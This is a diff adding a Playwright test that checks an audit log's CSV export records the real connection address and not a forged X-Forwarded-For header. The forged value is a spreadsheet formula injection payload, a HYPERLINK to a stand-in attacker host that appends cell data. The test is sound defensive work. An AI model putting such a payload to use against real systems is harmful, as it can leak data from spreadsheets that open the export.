@@ -2,7 +2,7 @@ import { expect, test } from "@playwright/test";
 import { Console } from "./pages/console";
 import { SignInPage } from "./pages/sign-in-page";
 import { createUserAsAdmin } from "./support/admin";
-import { DEMO } from "./support/users";
+import { DEMO, uniqueEmail } from "./support/users";
 
 const AREAS = {
   admin: [
@@ -80,4 +80,27 @@ test("failed and refused sign-ins are in the audit log", async ({ page }) => {
   await expect(page.getByTestId("chain-status")).toContainText("Chain verified");
   await expect(page.getByText("auth.sign_in_failed", { exact: true }).first()).toBeVisible();
   await expect(page.getByText("auth.sign_in_rate_limited", { exact: true }).first()).toBeVisible();
+});
+
+test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audit log records: the connection's address is", async ({ browser }) => {
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+  const forger = await browser.newContext({ extraHTTPHeaders: { "x-forwarded-for": formula } });
+  const page = await forger.newPage();
+  const email = uniqueEmail("forger");
+  const signIn = new SignInPage(page);
+  await signIn.goto();
+  await signIn.signIn(email, "not the password");
+  await expect(signIn.error()).toHaveText("That email and password do not match an active account.");
+  await forger.close();
+
+  const admin = await browser.newContext();
+  const adminPage = await admin.newPage();
+  await new SignInPage(adminPage).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
+  const csv = await (await adminPage.request.get(`/api/admin/audit/export?action=auth.sign_in_failed&actorEmail=${encodeURIComponent(email)}`)).text();
+  const row = csv.split(/\r?\n/).find((line) => line.includes(email));
+  expect(row).toBeDefined();
+  expect(row).not.toContain("HYPERLINK");
+  // The browser talks to the test server over loopback; that address is recorded, validated.
+  expect(row).toMatch(/,"?(127\.0\.0\.1|::1)"?,/);
+  await admin.close();
 });
